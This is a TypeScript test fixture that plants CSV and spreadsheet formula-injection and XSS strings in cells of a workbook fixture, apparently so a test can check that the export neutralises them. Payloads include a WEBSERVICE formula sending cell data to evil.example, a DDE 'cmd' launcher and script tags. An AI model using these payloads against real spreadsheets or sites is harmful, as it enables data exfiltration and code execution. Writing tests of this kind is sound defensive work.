import { ODD_TABLES, type FixtureTable } from '../fixtures/odd-workbook.ts'

/**
 * The odd workbook (test/fixtures/odd-workbook.ts) with formula- and script-looking text in every
 * kind of cell the export shows: pillar, titles, department, step, measure, note, district name.
 * (A leading tab or CR never reaches the export from a cell: the codec trims text.)
 */
export const RISKY = {
  pillar: '=HYPERLINK("http://evil.example","Student Success")',
  w1: '=1+2',
  w2: '+SUM(A1:A9)',
  w3: '-2+3 families on the portal',
  w4: '@SUM(A1)',
  w5: '-cmd|\'/C calc\'!A0',
  w7: '<script>alert("pwned")</script>',
  w8: '<img src=x onerror=alert(1)> tutoring',
  step: '=WEBSERVICE("http://evil.example/?"&A1)',
  department: '-Technology',
  district: '=Riverside & <b>Sons</b>',
  measure: '@Weekly small-group sessions',
  note: '+note that looks like a formula',
} as const

export function riskyTables(): FixtureTable[] {
  const tables = structuredClone(ODD_TABLES)
  const table = (name: string) => {
    const t = tables.find((x) => x.name === name)
    if (!t) throw new Error(name)
    return t
  }
  const set = (name: string, key: string, header: string, value: string) => {
    const t = table(name)
    const row = t.rows.find((r) => r.some((c) => c === key))
    const at = t.headers.indexOf(header)
    if (!row || at < 0) throw new Error(`${name} ${key} ${header}`)
    row[at] = value
  }
  set('Strategies', 'SS 1.01', 'Pillar', RISKY.pillar)
  set('WIGs', 'W1', 'Title', RISKY.w1)
  set('WIGs', 'W2', 'Title', RISKY.w2)
  set('WIGs', 'W3', 'Title', RISKY.w3)
  set('WIGs', 'W4', 'Title', RISKY.w4)
  set('WIGs', 'W5', 'Title', RISKY.w5)
  set('WIGs', 'W7', 'Title', RISKY.w7)
  set('WIGs', 'W8', 'Title', RISKY.w8)
  set('WIGs', 'W3', 'Department', RISKY.department)
  set('ActionSteps', 'S1', 'Title', RISKY.step)
  set('Measures', 'M7-1', 'Name', RISKY.measure)
  set('CheckIns', 'C10', 'Note', RISKY.note)
  set('Settings', 'DistrictName', 'Value', RISKY.district)
  return tables
}

